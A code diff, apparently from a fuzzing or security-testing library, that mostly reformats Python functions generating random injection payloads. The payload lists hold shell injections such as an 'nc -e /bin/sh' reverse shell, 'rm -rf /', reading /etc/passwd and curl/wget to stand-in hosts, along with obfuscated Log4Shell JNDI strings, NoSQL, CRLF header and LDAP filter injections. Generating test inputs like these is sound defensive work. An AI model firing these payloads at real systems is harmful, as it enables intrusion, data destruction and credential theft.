@@ -20,13 +20,17 @@ def _file(dice: Dice) -> str:
 
 def _shell(dice: Dice) -> str:
     command = dice.choice(("id", "whoami", "cat /etc/passwd", f"ping -c 3 {dice.word()}.example", f"curl http://{dice.word()}.example/x", "uname -a", f"wget http://{dice.word()}.example", f"nc -e /bin/sh 10.0.0.1 {dice.number()}", f"sleep {dice.number(20)}", "ls -la /", "rm -rf /"))  # fmt: skip
-    wrap = dice.choice(("; {}", "| {}", "&& {}", "|| {}", "`{}`", "$({})", "\n{}", ";{};", "& {} &", "' ; {} #", '" | {} "', "|{}"))
+    wrap = dice.choice(
+        ("; {}", "| {}", "&& {}", "|| {}", "`{}`", "$({})", "\n{}", ";{};", "& {} &", "' ; {} #", '" | {} "', "|{}")
+    )
     return dice.maybe(dice.word()) + wrap.format(command)
 
 
 def _lookup(dice: Dice) -> str:
     scheme = dice.choice(("ldap", "rmi", "dns", "ldaps"))
-    jndi = dice.choice(("jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${env:" + dice.word() + ":-n}di", "${upper:j}NDI"))
+    jndi = dice.choice(
+        ("jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${env:" + dice.word() + ":-n}di", "${upper:j}NDI")
+    )
     return "${" + f"{jndi}:{scheme}://{dice.word()}.example/{dice.word()}" + "}"
 
 
@@ -47,13 +51,27 @@ def _operator(dice: Dice) -> str:
 
 def _condition(dice: Dice) -> str:
     return dice.choice(
-        (f"' || '{dice.word()}'=='{dice.word()}", '{"$ne": null}', '{"$gt": ""}', "[$ne]=1", f"'; return this.{dice.word()} != '", "{$where: 'sleep(100)'}")  # fmt: skip
+        (
+            f"' || '{dice.word()}'=='{dice.word()}",
+            '{"$ne": null}',
+            '{"$gt": ""}',
+            "[$ne]=1",
+            f"'; return this.{dice.word()} != '",
+            "{$where: 'sleep(100)'}",
+        )
     )
 
 
 def _breaks(dice: Dice) -> str:
     line = dice.choice(("\r\n", "\n", "\r\n ", "\r"))
-    header = dice.choice(("Set-Cookie: a=b", "Location: http://evil.example", "X-Injected: 1", "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK"))
+    header = dice.choice(
+        (
+            "Set-Cookie: a=b",
+            "Location: http://evil.example",
+            "X-Injected: 1",
+            "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
+        )
+    )
     return dice.word() + line + header
 
 
@@ -65,7 +83,9 @@ def _address(dice: Dice) -> str:
 
 def _filter(dice: Dice) -> str:
     word = dice.word()
-    return dice.choice((f"*)(uid=*))(|(uid=*", f"{word})(&)", f"*)({word}=*", f"*)(|(objectclass=*)", f"{word})(|(password=*))"))
+    return dice.choice(
+        ("*)(uid=*))(|(uid=*", f"{word})(&)", f"*)({word}=*", "*)(|(objectclass=*)", f"{word})(|(password=*))")
+    )
 
 
 def _entity(dice: Dice) -> str:
